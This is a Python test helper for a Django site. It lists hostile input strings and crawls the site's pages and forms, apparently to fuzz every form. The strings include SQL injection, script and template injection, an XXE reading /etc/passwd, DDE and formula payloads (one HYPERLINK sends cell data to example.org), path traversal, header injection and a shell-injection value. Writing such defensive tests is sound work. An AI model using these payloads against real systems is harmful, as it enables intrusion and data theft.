"""What hostile people type, and every form of the house as a browser finds it: by following links and reading the HTML."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

from django.http import HttpResponse
from django.test import Client

STRINGS: dict[str, str] = {
    # the end of things
    "nul": "a\x00b",
    "bell": "a\x07b\x1b[31mc",
    "every control character": "".join(map(chr, range(1, 32))) + "\x7f\x85",
    "lone surrogate": "a\ud800b",
    "two surrogates the wrong way round": "\udc00\ud800",
    "replacement character": "a\ufffdb",
    "noncharacters": "\ufffe\uffff\ufdd0\U0001ffff",
    "beyond the first plane": "\U0001f9f6\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "private use": "\ue000\uf8ff\U000f0000",
    "a byte order mark": "\ufeffwords",
    # directions and look-alikes
    "right-to-left override": "abc\u202etxt.exe",
    "isolates never closed": "\u2066\u2067\u2068words",
    "zero width": "p\u200bl\u200ca\u200di\u2060t",
    "homoglyph": "Pl\u0430it \u0440artnership",
    "combining a hundredfold": "a" + "\u0301" * 100,
    "arabic": "\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645",
    "line separators": "a\u2028b\u2029c",
    "lines ended every way": "a\r\nb\rc\nd",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "only spaces": " \t\u00a0\u3000\u2003 ",
    "turkish dotless": "\u0130\u0131 \u00df \ufb01",
    "not normalised": "e\u0301 \u212b \u1e9b\u0323",
    # SQL
    "quote": "' or '1'='1",
    "stacked": "'; drop table kernel_entry; --",
    "union": "' union select password from kernel_account --",
    "escape string": "E'\\'' \\x27 \\",
    "dollar quotes": "$$; select 1; $$",
    "like wildcards": "%_%\\%",
    "placeholders": "%s %(id)s %d {0} {name} $1 :name ?",
    "sleep": "'||pg_sleep(10)||'",
    "json path": '{"a": {"$gt": ""}}',
    # HTML, templates, scripts
    "script": "<script>alert(1)</script>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "single-quoted attribute": "' onmouseover='alert(1)",
    "closing everything": '"></textarea></select></title></style></script><svg/onload=alert(1)>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "entities": "&lt;script&gt; &#x3c;b&#x3e; &amp;amp;",
    "django template": "{{ request.user.password }}{% include 'x' %}{# #}",
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "typst": '#read("/etc/passwd") #sys.inputs $x$ *b* _i_ @ref <label> \\ // /* */',
    "typst package": '#import "@preview/x:0.1.0": *',
    "javascript address": "javascript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "css": "</style><style>*{background:url(//example.org/x)}",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "office xml": "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>",
    "cdata": "]]><![CDATA[",
    # formulas
    "formula": "=1+1",
    "formula with link": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "plus, minus, at": "+1 -1 @SUM(1)",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "carriage return first": "\r=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "quote then formula": '","=1+1',
    "fullwidth equals": "\uff1d1+1",
    # paths, headers, shells
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini\x1a",
    "null path": "/dev/null;%00.png",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "shell": "$(touch /tmp/planted) `id` ; | & && || > <",
    "log line": "x\nERROR plait: somebody was removed",
    # numbers
    "past 64 bits": "9223372036854775808",
    "past everything": "9" * 400,
    "negative": "-1",
    "not a number": "NaN",
    "infinite": "1e9999",
    "arabic digits": "\u0661\u0662\u0663",
    "year nought": "0000-00-00",
    "year far off": "99999-12-31",
    "a list": "[]",
    "null": "null",
    "true": "true",
    # sizes
    "hundred thousand letters": "a" * 100_000,
    "a word for a regular expression": "a" * 20_000 + "!",
    "ten thousand lines": "\n" * 10_000,
    "ten thousand brackets": "(" * 10_000,
    "ten thousand at signs": "@" * 10_000,
}


@dataclass
class Form:
    """One form of a page: where it goes, how, and what stands in it when nobody has typed."""

    action: str
    method: str = "get"
    values: dict[str, list[str]] = field(default_factory=dict)
    texts: set[str] = field(default_factory=set)
    typed: set[str] = field(default_factory=set)  # dates, numbers, addresses, and what is hidden
    choices: dict[str, list[str]] = field(default_factory=dict)
    files: set[str] = field(default_factory=set)

    @property
    def shape(self) -> tuple[str, ...]:
        return (*sorted(self.values), *sorted(self.files))


class Forms(HTMLParser):
    """The forms of a page and the addresses that it links to."""

    def __init__(self, page: str, at: str) -> None:
        super().__init__()
        self.at, self.forms, self.links = at, [], set()
        self.now: Form | None = None
        self.area: str | None = None
        self.menu: str | None = None
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "a" and a.get("href", "").startswith(("/", "?")):
            self.links.add(a["href"] if a["href"].startswith("/") else urlsplit(self.at).path + a["href"])
        if tag == "form":
            self.now = Form(a.get("action") or self.at, a.get("method", "get").lower())
            self.forms.append(self.now)
        form, name = self.now, a.get("name", "")
        if form is None or not name:
            if tag == "option" and form is not None and self.menu:
                form.choices[self.menu].append(a.get("value", ""))
                if "selected" in a:
                    form.values[self.menu] = [a.get("value", "")]
            return
        if tag == "textarea":
            form.texts.add(name)
            form.values[name], self.area = [""], name
        elif tag == "select":
            form.choices.setdefault(name, [])
            form.values.setdefault(name, [])
            self.menu = name
        elif tag == "input" and a.get("type") in ("radio", "checkbox"):
            form.choices.setdefault(name, []).append(a.get("value", "on"))
            form.values.setdefault(name, [])
            if "checked" in a:
                form.values[name].append(a.get("value", "on"))
        elif tag == "input" and a.get("type") == "file":
            form.files.add(name)
        elif tag == "input" and a.get("type") not in ("submit", "button"):
            form.values.setdefault(name, []).append(a.get("value", ""))
            if name != "csrfmiddlewaretoken":
                (form.texts if a.get("type", "text") in ("text", "search") else form.typed).add(name)
        elif tag == "button" and name:
            form.choices.setdefault(name, []).append(a.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.now = None
        elif tag == "textarea":
            self.area = None
        elif tag == "select":
            self.menu = None

    def handle_data(self, data: str) -> None:
        if self.area and self.now is not None:
            self.now.values[self.area][0] += data


KIND = re.compile(r"[0-9a-f]{8}-[0-9a-f-]{27}|/\d+(?=/)")


def of_this_kind(address: str) -> str:
    """An address without what names one record in it: two records of one kind have pages of one kind."""
    parts = urlsplit(address)
    return KIND.sub("*", parts.path) + "?" + "&".join(sorted(p.partition("=")[0] for p in parts.query.split("&") if p))


def pages(client: Client, start: str = "/home/", at_most: int = 250) -> Iterator[tuple[str, HttpResponse]]:
    """One page of each kind that can be reached by links. Raises AssertionError on an answer of 500."""
    waiting, seen = [start], {of_this_kind(start)}
    while waiting and at_most:
        at, at_most = waiting.pop(0), at_most - 1
        answer = client.get(at)
        assert answer.status_code < 500, at
        if not answer["Content-Type"].startswith("text/html"):
            continue
        yield at, answer
        for link in sorted(Forms(answer.content.decode(), at).links):
            kind = of_this_kind(link)
            if kind not in seen and not link.startswith(("/static/", "/sign-out/")) and "format=" not in link:
                seen.add(kind)
                waiting.append(link)


def forms(walk: Iterable[tuple[str, HttpResponse]]) -> list[Form]:
    """One form of each shape at each kind of address that takes what is typed."""
    found: dict[tuple[str, tuple[str, ...]], Form] = {}
    for at, answer in walk:
        for form in Forms(answer.content.decode(), at).forms:
            found.setdefault((of_this_kind(form.action), form.shape), form)
    return list(found.values())
